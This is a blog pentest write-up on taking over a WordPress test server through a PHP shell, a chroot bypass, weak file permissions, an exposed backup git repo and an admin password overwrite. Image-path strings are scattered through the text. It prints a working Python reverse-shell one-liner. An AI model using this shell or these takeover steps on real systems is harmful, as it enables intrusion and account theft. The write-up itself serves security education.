WordPress Penetration Test

Today a friend of mine told me:

I don't know how it is possible, i've a fully patched wordpress site without a particular or malicious plugin, but someone keep hacking me over and over!

Since he's a friend of mine I told him to let me take a look, so i'll try to figure out what goes wrong with the server setup! He was happy enough to find the root cause of so many breaches so he gave me access to their test server with a limited account and a php shell (Take in mind php was chrooted!).

It all started with a php shell

It all started with a php shell as shownbelow

Image description

I was able to execute command with a normal php shell, but i preferred to use one of mines. So i downloaded it using wget on server, using the commands below


This is my favorite shell, easy to use with a lot of built-in tools and user friendly!

Image description

At this point I started looking around without any success, since php was chrooted and Iwasn't able to browse to other user's directory, but I suddenly noticed that python was installed! Python might come in handy when you need to bypass chroot since many sysadmin forget to remove it. So using a simple python reverse shel,l i was able to spawn a TTY shell.

python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("",1234));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);'

Image description

As you may notice from the screenshot above using the python shell, I was able to browse the root directory, and i found an interesting folder belonging to a different user, so I decided to elevate my privileges to the one belonging to our target! In order to do this we would need to read some files hosted from our target such as configuration files or similiar, so I tried to symlink to the user's directory and due to weak permissions it was possible! Using the access to our target's main directory, I noticed many files but just few were accessible. The one that caught my attention was the backups folders (owned by root), this folder was supposed to contain backups from the site, so since I was looking for a configuration file that was the best place to start.

Image description

Once inside the backups folder I noticed a folder called .git so it took me few seconds to figure out that it was a repository. I started cloning it and once it was finished, I noticed many php files from a wordpress installation. Since I cloned the repository I had full read / write access over these files, so with a simple cat I took DB user and password from the configuration file and I tried to login using MySQL

Image description

Once i got in, I had the confirmation that it was a WordPress installation so started looking around in orderto find wp_users table. When i found it, I replaced the admin password with the md5 of "hacked"...

Image descriptionAfter this process was done, I tried to login on site and .......BOOM I was in, mission accomplished!

Image description

No magic at all

There's no magic at all behind this hack. Wrong permissions may lead to serious troubles... Even when you use protections such as chroot or similar, with today's techniques they can be easly bypassed. That said, you shouldn't rely just on prevent the user from using some tools with higher permission. Linux or Windows provides the sysadmins with some powerful weapons called ACL and Permission, nerver forget about it.

The EndI hope you liked this small write-up, comment ifyou liked it.


Tags  |  escalation |pentest |  privileges |  wordpress  |   |Daniele Linguaglossa